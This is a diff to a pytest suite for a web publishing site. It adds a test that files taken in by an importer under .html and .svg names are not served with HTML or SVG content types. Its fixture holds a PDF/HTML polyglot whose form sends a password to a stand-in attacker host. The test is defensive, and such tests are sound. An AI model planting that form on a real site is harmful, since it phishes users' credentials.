@@ -8,7 +8,8 @@ from datetime import UTC, datetime
 import pytest
 
 from posts import workflow
-from posts.models import Post
+from posts.legacy.importer import import_dump
+from posts.models import Attachment, Post
 from posts.workflow import Content
 
 from . import server as server_module
@@ -84,3 +85,24 @@ def test_a_page_rendered_for_another_host_is_never_served_to_readers(front, post
 def test_readers_still_share_the_microcache(front, post):
     assert front.get("/posts/vitamin-d-in-winter/").headers["X-Cache"] == "MISS"
     assert front.get("/posts/vitamin-d-in-winter/").headers["X-Cache"] == "HIT"
+
+
+def test_an_imported_attachment_named_html_is_not_served_as_a_page_of_the_site(front, tmp_path, people):
+    """The importer takes a file by its first bytes (a PDF here) and keeps its name: from disk,
+    nginx must not serve it as what its name says (text/html: a form of the site's own origin)."""
+    dump, files = tmp_path / "dump", tmp_path / "files"
+    (files / "html").mkdir(parents=True)
+    dump.mkdir()
+    page = b'%PDF-1.4\n<html><form action="https://evil.example/steal"><input name=password></form>'
+    (files / "html" / "login.html").write_bytes(page)
+    (files / "svg").mkdir()
+    (files / "svg" / "chart.svg").write_bytes(b"%PDF-1.4\n<svg xmlns='http://www.w3.org/2000/svg'></svg>")
+    link = "https://d1bk1kqxc0sym.cloudfront.net/attachments"
+    (dump / "p.md").write_text(
+        f'{{"title": "P", "date": "2024-01-05"}}\n\n[a]({link}/html/login.html) [b]({link}/svg/chart.svg)\n'
+    )
+    assert import_dump(dump, attachments_dir=files, workers=1).attachments_stored == 2
+    for name in ("html/login.html", "svg/chart.svg"):
+        served = front.get(f"/media/attachments/{name}")
+        assert served.status == 200 and served.body.startswith(b"%PDF-")
+        assert served.headers["Content-Type"] not in ("text/html", "image/svg+xml"), name
